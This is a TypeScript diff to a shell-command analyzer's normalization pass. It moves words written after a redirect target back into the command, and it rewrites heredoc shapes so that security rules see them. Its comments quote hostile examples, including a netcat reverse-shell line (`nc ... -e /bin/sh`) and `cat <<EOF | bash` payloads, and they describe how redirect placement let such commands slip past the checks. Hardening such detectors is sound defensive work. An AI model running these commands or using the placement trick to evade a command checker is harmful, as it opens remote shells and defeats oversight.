@@ -2,8 +2,9 @@
 // analyzer that trusted those shapes would miss commands: `cat <<EOF | sh` puts the pipeline
 // *inside* the heredoc redirect, `cat <<EOF > f && sh f` hides the `&& sh f` there too, and
 // `python3 - <<EOF` drops the `-`. This pass rewrites those shapes into the ones bash means
-// (pipeline, list, argument) before analysis. Threat it stops: `cat <<EOF | bash` style payloads
-// and heredoc-fed interpreters slipping through a parser quirk.
+// (pipeline, list, argument) before analysis, and gives words after a redirect's target back to
+// the command. Threat it stops: `cat <<EOF | bash` style payloads, heredoc-fed interpreters and
+// arguments written after a redirect (`nc 2>/dev/null -e /bin/sh h 1`) slipping through parser quirks.
 import type { SNode } from './parser.js';
 
 const SEPARATORS = new Set([';', '&', '|', '&&', '||', '|&', ';;']);
@@ -27,10 +28,30 @@ function gapWords(text: string, from: number, to: number): SNode[] {
   return out;
 }
 
+/**
+ * `nc 2>/dev/null -e /bin/sh h 1`: the grammar gives every word after a redirect's target to the redirect as more
+ * destinations, but bash runs them as the command's arguments (`nc -e /bin/sh h 1`). Moves them back, in order, so
+ * a redirect put before the arguments no longer hid them from every rule (session 45: `nc 2>/dev/null -e /bin/sh
+ * h 1` and `python3 </dev/null -c '…'` were allowed).
+ */
+function spillDestinations(cmd: SNode, redirects: SNode[]): void {
+  for (const r of redirects) {
+    if (r.type !== 'file_redirect') continue;
+    const dests = r.children.filter((c) => c.field === 'destination');
+    if (dests.length < 2) continue;
+    const extra = new Set(dests.slice(1));
+    r.children = r.children.filter((c) => !extra.has(c));
+    r.end = dests[0]!.end;
+    for (const w of extra) cmd.children.push({ ...w, field: 'argument' });
+    cmd.end = Math.max(cmd.end, dests.at(-1)!.end);
+  }
+}
+
 /** Rewrites one redirected_statement whose heredoc redirect swallowed the rest of the line. */
 function fixRedirected(n: SNode, text: string): SNode {
   const body = n.children.find((c) => c.field === 'body');
   const hd = n.children.find((c) => c.type === 'heredoc_redirect');
+  if (body?.type === 'command' && body.children.some((c) => c.field === 'name')) spillDestinations(body, n.children.filter((c) => c.field === 'redirect'));
   if (body?.type === 'command') {
     const firstRedir = n.children.find((c) => c.field === 'redirect');
     if (firstRedir && firstRedir.start > body.end) {
@@ -106,6 +127,9 @@ export function normalizeTree(n: SNode, text: string, depth = 0): SNode {
     n.children[i] = r;
   }
   if (n.type === 'redirected_statement') return fixStatement(n, text);
-  if (n.type === 'command') return splitCommand(n);
+  if (n.type === 'command') {
+    if (n.children.some((c) => c.field === 'name')) spillDestinations(n, n.children.filter((c) => c.field === 'redirect'));
+    return splitCommand(n);
+  }
   return n;
 }
